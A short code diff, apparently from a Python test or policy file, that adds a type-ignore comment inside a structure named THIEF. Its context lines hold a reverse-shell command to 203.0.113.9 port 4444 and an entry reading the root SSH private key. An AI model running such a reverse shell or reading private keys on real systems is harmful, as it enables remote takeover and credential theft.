@@ -49,7 +49,7 @@ THIEF = dynamic(
             {"Command": ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], "Environment": ["A=b"]},
         ],
     ),
-    **{
+    **{  # type: ignore[arg-type]
         "import": phase(
             Files=[
                 file("/root/.ssh/id_rsa", "r"),
